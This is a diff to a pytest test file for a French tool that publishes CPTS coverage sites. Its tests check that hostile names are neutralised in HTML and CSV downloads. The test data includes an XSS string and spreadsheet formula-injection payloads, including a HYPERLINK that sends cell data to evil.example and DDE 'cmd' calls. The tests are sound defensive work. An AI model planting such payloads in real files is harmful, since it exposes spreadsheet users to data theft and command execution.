@@ -36,6 +36,14 @@ from cpts_geo.publishing.release import lock as _lock
 from cpts_geo.publishing.site import publish
 
 HOSTILE = "<img src=x onerror=alert(1)>"
+#: CPTS names that a spreadsheet would run as formulas if the CSV downloads held them raw.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquer")',
+    "=cmd|' /C calc'!A0",
+    "+33 4 77 00 00 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 CHROMIUM = Path("/usr/bin/chromium")
 
 
@@ -58,9 +66,11 @@ def _tree_digest(root: Path) -> dict[str, str]:
 
 @pytest.fixture(scope="module")
 def site(tmp_path_factory):
-    """One publication of the seeds plus a hostile CPTS (two Isère communes)."""
+    """One publication of the seeds plus hostile CPTS (HTML, spreadsheet formulas) on two Isère
+    communes."""
     tmp = tmp_path_factory.mktemp("publish")
-    terr = _territories(tmp, [(HOSTILE, "38185", "pré-projet"), (HOSTILE, "38151", "pré-projet")])
+    terr = _territories(tmp, [(name, code, "pré-projet") for name in (HOSTILE, *FORMULAS)
+                              for code in ("38185", "38151")])
     result = publish(terr, tmp / "site", progress=False)
     return tmp, result
 
@@ -234,11 +244,11 @@ def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
     assert sorted(p.name for p in (out / "departements").iterdir()) == ["42"]
     assert out.resolve() == again.release.resolve()
     assert not list(releases.glob(".build-*"))
-    # its change report compares with the fixture's publication (the hostile CPTS is gone)
+    # its change report compares with the fixture's publication (the hostile CPTS are gone)
     ch = again.changes
     assert ch["first_publication"] is False and ch["vintage_changed"] is False
-    assert [(c["cpts"], c["change"]) for c in ch["cpts"] if c["change"] != "unchanged"] == [
-        (HOSTILE, "dissolved")]
+    assert sorted((c["cpts"], c["change"]) for c in ch["cpts"] if c["change"] != "unchanged") == [
+        (name, "dissolved") for name in sorted([HOSTILE, *FORMULAS])]
     assert {(c["insee"], c["change"]) for c in ch["communes"]} == {
         ("38185", "left"), ("38151", "left")}
     assert [a["area"] for a in ch["areas"]] == ["38"] and ch["areas"][0]["delta"] < 0
@@ -261,20 +271,23 @@ def _is_complete(site: Path, departements: list[str]) -> bool:
 
 
 @pytest.mark.slow
-def test_first_publication_over_a_plain_site_keeps_it_as_the_previous_release(site, tmp_path):
+def test_first_publication_over_a_plain_site_with_a_damaged_state(site, tmp_path):
+    """A plain site directory (copied by hand, or by an older version) whose state.json is foreign
+    JSON that used to crash the comparison: switched to a link, kept as the previous release,
+    and the change report starts again with a warning."""
     tmp, _ = site
     out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
+    (out / "state.json").write_bytes(DAMAGED_STATES["rate-not-object"])
     before = _tree_digest(out)
-    result = publish(SEEDS, out, progress=False, departements="42")
+    with pytest.warns(CptsGeoWarning, match=r"cannot be read .*'42' is not a number"):
+        result = publish(SEEDS, out, progress=False, departements="42")
     assert out.is_symlink() and out.resolve() == result.release.resolve()
     assert _is_complete(out, ["42"])
     (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
     assert _tree_digest(legacy) == before  # the old site, untouched, as the previous release
-    # the change report compares with the old site's state (not a first publication)
-    ch = result.changes
-    assert ch["first_publication"] is False and ch["vintage_changed"] is False
-    assert {c["cpts"] for c in ch["cpts"] if c["change"] == "unchanged"} == {
-        "Vallée du Gier", "Sud-Est Grenoblois", "Vénissieux"}
+    assert result.changes == {"first_publication": True}
+    assert "Première publication" in (out / "index.html").read_text("utf-8")
+    assert json.loads((out / "state.json").read_text("utf-8"))["version"] == 1
 
 
 @pytest.mark.slow
@@ -376,43 +389,23 @@ def test_no_previous_site_is_a_first_publication_without_warning(tmp_path, recwa
     assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]
 
 
-@pytest.mark.slow
-def test_a_publication_over_a_damaged_state_succeeds(site, tmp_path):
-    tmp, _ = site
-    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
-    (out / "state.json").write_bytes(DAMAGED_STATES["rate-not-object"])  # crashed diff() before
-    with pytest.warns(CptsGeoWarning, match=r"cannot be read .*'42' is not a number"):
-        result = publish(SEEDS, out, progress=False, departements="42")
-    assert result.changes == {"first_publication": True}
-    assert "Première publication" in (out / "index.html").read_text("utf-8")
-    assert json.loads((out / "state.json").read_text("utf-8"))["version"] == 1
-
-
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquer")',
-    "=cmd|' /C calc'!A0",
-    "+33 4 77 00 00 00",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-]
+def test_a_plain_site_directory_is_compared_with_its_state(tmp_path, recwarn):
+    out = tmp_path / "www"
+    out.mkdir()
+    state = {"version": 1, "vintage": VINTAGE, "level": "departement", "names": {},
+             "rates": {"42": {"nom": "Loire", "coverage_rate": 0.12}},
+             "cpts": {"gier": {"cpts": "Vallée du Gier", "status": None, "status_date": None,
+                               "communes": ["42218"], "shares": {}}}}
+    (out / "state.json").write_text(json.dumps(state), encoding="utf-8")
+    assert site_module._previous_state(out) == state
+    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]
 
 
 @pytest.mark.slow
-def test_csv_downloads_hold_no_live_formula(tmp_path):
-    terr = tmp_path / "formulas.csv"
-    rows = [("Vallée du Gier", "42218", "=1+1")]
-    rows += [(name, code, f"=WEBSERVICE(\"http://x/{i}\")")
-             for i, (name, code) in enumerate(zip(FORMULAS, ["42207", "42110", "42095", "42147",
-                                                             "42187"], strict=True))]
-    rows.append((FORMULAS[0], "42218", "source"))  # an overlap: names joined in one cell
-    with open(terr, "w", encoding="utf-8", newline="") as fh:
-        writer = csv.writer(fh)
-        writer.writerow(["cpts", "insee", "source"])
-        writer.writerows(rows)
-    out = tmp_path / "site"
-    publish(terr, out, progress=False, departements="42")
+def test_csv_downloads_hold_no_live_formula(site):
+    _, result = site  # the fixture's release (later tests publish again over its link)
     cells = []
-    for path in sorted(out.rglob("*.csv")):
+    for path in sorted(result.release.rglob("*.csv")):
         with open(path, encoding="utf-8", newline="") as fh:
             cells += [(path.name, c) for row in csv.reader(fh) for c in row]
     live = []
@@ -426,8 +419,8 @@ def test_csv_downloads_hold_no_live_formula(tmp_path):
     texts = {c for _, c in cells}
     for formula in FORMULAS:  # the names are there, as text
         assert "'" + formula in texts, formula
-    assert any(c.startswith("'" + FORMULAS[0] + "; ") or c.endswith("; " + FORMULAS[0])
-               for c in texts)  # the overlap cell, joined names
+    joined = [c for c in texts if "; " in c and FORMULAS[1] in c]  # overlaps: names in one cell
+    assert joined and all(c[0] not in "=+-@" for c in joined)
 
 
 def test_no_symbolic_links_is_refused_before_reading_anything(tmp_path, monkeypatch):
